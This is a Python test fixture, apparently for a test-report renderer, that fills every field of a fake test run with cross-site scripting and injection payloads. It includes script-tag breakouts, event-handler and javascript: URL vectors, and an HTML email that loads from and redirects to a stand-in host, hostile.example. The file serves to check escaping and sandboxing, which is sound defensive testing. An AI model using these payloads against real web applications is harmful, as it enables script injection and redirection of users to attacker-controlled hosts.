"""A run whose every word tries to be markup."""

import json

from streams import (
    Definition,
    Outcome,
    Stream,
    attachment,
    mail,
    notification,
    sent,
    timeline,
)

AWAY = "http://hostile.example"
# What becomes true in the page as soon as any of it runs.
RAN = "window.ran = true"
ATTACKS = [
    f"<script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"</style></title></textarea></pre></template></iframe><script>{RAN}</script>",
    f"<img src={AWAY}/pixel.png onerror={RAN}>",
    f'" onmouseover="{RAN}" autofocus onfocus="{RAN}" x="',
    f"' onclick='{RAN}' style='background:url({AWAY}/style)",
    f"<a href=javascript:{RAN.replace(' ', '')}>click</a>",
    f"<svg><style>*{{background:url({AWAY}/svg)}}</style><script>{RAN}</script></svg>",
    f"<iframe srcdoc='<script>{RAN}</script>'></iframe><base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;{AWAY}'>",
    f"<!--><script>{RAN}</script-->",
    "{{ 7 * 7 }}{% raw %} ${7*7}",
]
ATTACK = " ".join(ATTACKS)

LETTER = f"""<html><head>
<base href="{AWAY}/base/"><meta http-equiv="refresh" content="0;url={AWAY}/refresh">
<link rel="stylesheet" href="{AWAY}/style.css"><style>@import url({AWAY}/import.css);
body {{ background: url({AWAY}/body.png) }}</style>
<script>parent.{RAN.removeprefix("window.")}; top.location = "{AWAY}/script"</script>
<script src="{AWAY}/script.js"></script>
</head><body onload="parent.ran = true">
<p style="background: url({AWAY}/inline.png)">A hostile letter says needle-in-the-letter.</p>
<img src="{AWAY}/pixel.png" onerror="parent.ran = true" srcset="{AWAY}/set.png 2x">
<iframe src="{AWAY}/frame"></iframe>
<object data="{AWAY}/object"></object><embed src="{AWAY}/embed">
<video src="{AWAY}/video" poster="{AWAY}/poster"></video>
<form action="{AWAY}/form"><button id="send">Send</button></form>
<p><a id="away" href="{AWAY}/link" target="_top" ping="{AWAY}/ping">Away</a>
<a id="script" href="javascript:parent.ran=true">Script</a>
<svg width="20" height="20"><a id="svg" xlink:href="{AWAY}/svg"><text y="15">S</text></a></svg>
<map name="m"><area id="area" href="{AWAY}/area" shape="default"></map></p>
</body></html>"""


def _doc_string(words: str) -> str:
    return f'      """\n      {words}\n      """'


def feature(words: str) -> str:
    cell = words.replace("\\", "\\\\").replace("|", "\\|")
    tag = "@" + words.replace(" ", "").replace("@", "")
    return f"""
{tag}
Feature: {words}
  {words}

  Background: {words}
    Given a background {words}

  {tag}
  Rule: {words}
    {words}

    Scenario: {words}
      {words}
      When it is {words}
      | {cell} | {cell} |
      | {cell} | {cell} |
      Then it fails {words}
{_doc_string(words)}

    Scenario Outline: many {words} <a>
      When this is <a>

      Examples: {words}
        {words}
        | a      | b |
        | {cell} | 1 |
"""


def _evidence(words: str) -> list:
    entries = [
        {"kind": "task", "name": words, "state": words, "result": {words: words}},
        {"kind": "refusal", "caption": words},
        {"kind": "constructor", "caption": words},
        {
            "kind": "live",
            "person": words,
            "direction": "receives",
            "frame": {"type": words},
            "caption": words,
        },
        {"kind": "live", "person": words, "direction": "sends", "frame": words, "caption": words},
        {"kind": "command", "command": words, "lines": [words], "code": 1, "caption": words},
        {
            "kind": "report",
            "caption": words,
            "tables": [{"title": words, "columns": [words], "rows": [[words]], "note": words}],
        },
    ]
    told = timeline(*({"caption": words, **entry} for entry in entries), notification(words, words))
    files = [
        attachment(words, "text/html", words),
        attachment(
            f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RAN}</script></svg>", "image/svg+xml", words
        ),
        attachment(words, f"application/{words}", words),
        attachment(b"no pdf", "application/pdf", words),
    ]
    return [told, *files, *sent(mail("A hostile letter <script>", words, LETTER))]


def hostile_stream(words: str = ATTACK) -> Stream:
    """Attacks wherever a run has words: names, prose, tags, tables, errors, evidence, phrases, its build."""
    failure = Outcome("FAILED", f"Expected: {words}\n     but: was {words}", words, words)
    phrase = {"phrase": words, "place": f"{words}:1"}
    said = {**phrase, **dict.fromkeys(("keyword", "meaning", "example", "family"), words)}
    told = {"phrases": [said], "words": [{"name": words, "example": words}]}
    return Stream(
        {f"features/1_{words}/{words}.feature": feature(words)},
        {f"it is {words}": Outcome(attached=_evidence(words)), f"it fails {words}": failure},
        hooks={words: Outcome(hook=words, attached=[attachment(words, "text/plain")])},
        definitions=[Definition(words, words)],
        uses={f"it is {words}": [0]},
        run_hooks=[Outcome("FAILED", words, words, words, hook=words)],
        attached=[attachment(json.dumps(told), "application/json; profile=dictionary")],
        meta={
            "ci": {
                "name": words,
                "url": f"javascript:{RAN}",
                "git": {"remote": f"https://x/{words}", "revision": words},
            }
        },
    )
